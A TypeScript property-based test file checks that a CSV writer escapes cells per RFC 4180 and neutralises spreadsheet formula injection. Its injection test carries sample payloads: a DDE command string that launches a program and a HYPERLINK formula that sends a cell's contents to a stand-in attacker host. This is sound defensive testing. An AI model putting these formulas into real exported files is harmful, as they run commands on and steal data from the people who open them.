import { expect } from 'chai';
import fc from 'fast-check';
import { csvLine } from '../../../src/app/http/csv.ts';
import { readCsv } from './csv-reader.ts';

const read = (cells: readonly string[]): string[] => {
  const [line = [], ...others] = readCsv(csvLine(cells));
  expect(others).to.deep.equal([]);
  return line;
};

const readOne = (cell: string): string => read([cell])[0] ?? '';

/** What a person who writes formulas would begin with. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const controls = ['\t', '\r', '\n', '\0'];
const hostile = fc
  .array(fc.constantFrom(...signs, ...controls, '"', ',', '\r\n', ' ', "'", ';', '\u00a0', 'a', 'é', '💥'), {
    maxLength: 12,
  })
  .map((parts) => parts.join(''));
const cell = fc.oneof(fc.string({ unit: 'binary' }), hostile);

describe('a line of CSV', () => {
  it('follows RFC 4180', () => {
    expect(csvLine(['a', '', 'b c'])).to.equal('a,,b c\r\n');
    expect(csvLine(['say "no"', 'a,b', 'a\nb', ''])).to.equal('"say ""no""","a,b","a\nb",\r\n');
  });

  it('shows ordinary cells as they are', () => {
    for (const text of ["o'neil", "'tis", 'a=b', 'a\t=b', 'x+y@z', ' a', '1-2', '"-1"', '…', '']) {
      expect(readOne(text)).to.equal(text);
    }
  });

  it('puts an apostrophe before whatever a spreadsheet takes for a formula', () => {
    const payloads = ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1,"Click")', '1', ''];
    const spaced = signs.flatMap((sign) => ['', ' ', '\u3000', "'", "''"].map((before) => `${before}${sign}`));
    for (const opening of [...spaced, ...controls]) {
      for (const payload of payloads) expect(readOne(`${opening}${payload}`)).to.equal(`'${opening}${payload}`);
    }
  });

  it('reads back as the cells that it was made of, whatever they hold', () => {
    const guard = /^'+(?:[\0\t\r\n]|\s*[=+\-@＝＋－＠﹦﹢﹣﹫])/;
    const unguarded = (text: string): string => (guard.test(text) ? text.slice(1) : text);
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
        expect(read(cells).map(unguarded)).to.deep.equal(cells);
      }),
      { numRuns: 2_000 },
    );
  });

  it('never holds a cell that begins as a formula does', () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(readOne(text)).to.not.match(/^\s*[=+\-@＝＋－＠]|^[\0\t\r\n]/);
      }),
      { numRuns: 2_000 },
    );
  });

  it('takes a very long cell in its stride', () => {
    for (const text of [`${"'".repeat(1e6)}=`, `${' '.repeat(1e6)}x`, '"'.repeat(1e6)]) {
      expect(readOne(text)).to.have.length.within(1e6, 1e6 + 2);
    }
  });
});
